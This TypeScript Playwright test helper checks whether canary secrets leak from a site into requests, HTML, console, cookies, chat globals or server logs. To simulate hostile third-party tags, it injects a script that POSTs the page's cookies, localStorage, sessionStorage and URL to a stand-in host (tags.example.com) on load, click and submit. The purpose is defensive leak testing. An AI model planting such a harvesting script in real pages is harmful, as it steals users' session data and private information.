import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { BrowserContext, Frame, Page, Request, Response } from '@playwright/test'
import { textOfPage } from './browser-text.ts'
import { changeSettings } from './secured-site.ts'
import { settled } from './settled.ts'
import type { Site } from './start-site.ts'

const codeHost = 'tags.example.com'

/**
 * Sends to a host of its own everything that a third-party script can read of the page without a form: its address, its
 * title, cookies and storages.
 */
const spyOn = (host: string): string => `
const send = (what) => fetch('https://${host}/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what && typeof what === 'object' ? { ...what } : what,
  location.href, document.referrer, document.title, document.cookie, { ...localStorage }, { ...sessionStorage }, window.name, history.state]) }).catch(() => {});
`
/** What stands in for the programs that count: each sends on what was queued for it, and what comes later. */
const counting = `(() => {
const host = new URL(document.currentScript.src).host;
${spyOn('X').replace("'https://X/collect'", '`https://${host}/collect`')}
if (host === 'mc.yandex.ru') {
  (window.ym.a ?? []).forEach(send);
  window.ym = (...parts) => void send(parts);
} else {
  const { push } = window.dataLayer;
  window.dataLayer.forEach(send);
  window.dataLayer.push = (...parts) => (parts.forEach(send), Reflect.apply(push, window.dataLayer, parts));
}
})()`
/** Custom code that spies at each press, calls what is refused to it, and asks a host that the policy does not name. */
const customCode = `<script>(() => {
${spyOn(codeHost)}
send('load');
addEventListener('click', () => send('click'));
addEventListener('submit', () => send('submit'), true);
new Image().src = 'https://blocked.example/pixel';
document.write('');
})()</script>`

/**
 * Switches on every sink of a site that is not a chat, also on secure documents; consent is asked for. `security`:
 * fields of its own.
 */
export async function switchOnSinks(site: Site, security: object = {}): Promise<void> {
  const { values } = JSON.parse(await readFile(join(site.folder, 'settings/site.json'), 'utf8')) as {
    values: { functionalSettings: object }
  }
  await changeSettings(
    site,
    { thirdPartyOnMoneyPages: true, ...security },
    {
      functionalSettings: { ...values.functionalSettings, isConsentAsked: true },
      analytics: {
        tagServiceId: 'G-TEST123456',
        searchAnalyticsId: '12345678',
        tagManagerId: 'GTM-TEST12',
        urlParameters: { track_id: 'trackId' },
      },
      customCode: [{ isEnabled: true, position: 'head', code: customCode, hosts: [codeHost] }],
    },
  )
}

/**
 * Calls whose input goes to those who count, or to a chat; what other calls carry is the player's own business with the
 * platform.
 */
const sinkCalls = /\/api\/(events\.handle|tracking\.hit|FreshChat\.storeChatEvent|storage\.set)$/i
const globalsOfChats = ['fcSettings', '__lc', 'liveTexID', 'LiveTex', 'VerboxSetup', 'supportAPIMethod', 'jivo_config']

/** Text as it is, and as it reads once percent-encoding is undone. */
function plain(text: string): string {
  return `${text}\n${text.replaceAll('+', ' ').replaceAll(/(?:%[0-9a-f]{2})+/gi, (part) => {
    try {
      return decodeURIComponent(part)
    } catch {
      return part
    }
  })}`
}
/** Digits as a word of their own: longer numbers hold any six by chance. */
const holds = (text: string, canary: string): boolean =>
  text.includes(canary) &&
  new RegExp(`(?<![0-9A-Za-z])${canary.replaceAll(/[^0-9A-Za-z]/g, '\\$&')}(?![0-9A-Za-z])`).test(text)

/** Stands for a document that the browser has given up before it could be read. */
const unread = '(unread)'
const sinkNames = ['requests', 'html', 'console', 'recordings', 'page', 'cookies', 'chats', 'log'] as const
type SinkName = (typeof sinkNames)[number]
/**
 * Where a canary belongs: lines of a sink, of the requests those that begin with method and address, of the documents
 * with their address.
 */
export type Place = { readonly sink: SinkName; readonly where?: RegExp }
type Canary = { readonly value: string; readonly places: readonly Place[] }

export type Sinks = {
  /** Adds values that may be in no sink from now on, but for these places. */
  readonly add: (canaries: Readonly<Record<string, string>>, ...places: readonly Place[]) => void
  /**
   * Which canaries are in which sinks, once the page has come to rest. `frame`: the site's own, where another page
   * holds it.
   */
  readonly found: (page: Page, frame?: Frame) => Promise<readonly string[]>
  /** Everything that a sink has got. */
  readonly text: (sink: 'requests' | 'console' | 'recordings') => string
}

/**
 * Follows every sink of a context: requests, the HTML of documents, console, what the browser stores, recordings of
 * flows, the log of the server. Opens a page that listens to the recordings.
 */
export async function followSinks(context: BrowserContext, { address, program }: Site): Promise<Sinks> {
  const canaries = new Map<string, Canary>()
  const requests: Promise<string>[] = []
  const documents: Promise<string>[] = []
  const consoles: string[] = []
  const recordings: string[] = []
  await context.route(/^https:\/\/(www\.googletagmanager\.com|mc\.yandex\.ru|tags\.example\.com)\//, (route) =>
    route.fulfill(
      route.request().resourceType() === 'script'
        ? { contentType: 'text/javascript', body: counting }
        : { status: 204, headers: { 'access-control-allow-origin': '*' } },
    ),
  )
  const textOf = async (request: Request): Promise<string> => {
    const { origin, pathname } = new URL(request.url())
    const isOwnCall = origin === address && pathname.startsWith('/api/') && !sinkCalls.test(pathname)
    const { referer = '' } = await request.allHeaders().catch(() => request.headers())
    return `${request.method()} ${request.url()} ${referer} ${isOwnCall ? '' : (request.postData() ?? '')}`
  }
  /** The site's own: what stands in for providers and services belongs to others. */
  const isOwnDocument = (answer: Response): boolean => {
    const { origin, pathname } = new URL(answer.url())
    return (
      answer.request().resourceType() === 'document' &&
      origin === address &&
      !/^\/(sandbox|oauth)\//.test(pathname) &&
      answer.status() === 200
    )
  }
  context.on('response', (answer) => {
    if (!isOwnDocument(answer)) return
    const { pathname } = new URL(answer.url())
    const html = answer.text().catch(() => unread)
    documents.push(html.then((text) => `${pathname} ${text}`))
  })
  context.on('request', (request) => void requests.push(textOf(request)))
  context.on('console', (message) => consoles.push(message.text()))
  await context.exposeBinding('playbillRecorded', (_source, text: string) => void recordings.push(text))
  const viewer = await context.newPage()
  await viewer.goto(`${address}/robots.txt`)
  await viewer.evaluate(() => {
    const tell = (window as unknown as { playbillRecorded: (text: string) => void }).playbillRecorded
    const channel = new BroadcastChannel('playbill-inspect')
    const greeted = new Set<string>()
    channel.addEventListener('message', ({ data }) => {
      tell(JSON.stringify(data))
      // A page answers each greeting.
      const { kind, page } = data as { kind: string; page?: { id: string } }
      if (kind !== 'page' || !page || greeted.has(page.id)) return
      greeted.add(page.id)
      channel.postMessage({ format: 1, kind: 'hello' })
    })
    channel.postMessage({ format: 1, kind: 'hello' })
  })
  const log = program.output().length
  let sent = ''
  return {
    add: (more, ...places) =>
      Object.entries(more).forEach(([name, value]) => void canaries.set(name, { value, places })),
    text: (sink) => (sink === 'requests' ? sent : (sink === 'console' ? consoles : recordings).join('\n')),
    async found(page, frame = page.mainFrame()) {
      await settled(page)
      const [sentRequests, html] = await Promise.all([Promise.all(requests), Promise.all(documents)])
      sent = sentRequests.join('\n')
      const chats = await frame.evaluate(
        (names) => JSON.stringify(names.map((name) => (window as unknown as Record<string, unknown>)[name])),
        globalsOfChats,
      )
      const sinks: Readonly<Record<SinkName, readonly string[]>> = {
        requests: sentRequests,
        html,
        console: [consoles.join('\n')],
        recordings: [recordings.join('\n')],
        page: [await textOfPage(frame)],
        cookies: [JSON.stringify(await context.cookies())],
        chats: [chats],
        log: [program.output().slice(log)],
      }
      const lost = html.filter((line) => line.endsWith(unread))
      const isPlaceOf = (places: readonly Place[], sink: SinkName, line: string): boolean =>
        places.some((place) => place.sink === sink && (place.where?.test(line) ?? true))
      const leaks = sinkNames.flatMap((sink) => {
        const lines = sinks[sink].map((line) => [line, plain(line)] as const)
        return [...canaries].flatMap(([name, { value, places }]) =>
          lines
            .filter(([line, text]) => holds(text, value) && !isPlaceOf(places, sink, line))
            .map(([line]) => `${name} in ${sink}${sinks[sink].length > 1 ? `: ${line.slice(0, 120)}` : ''}`),
        )
      })
      return [...leaks, ...lost]
    },
  }
}
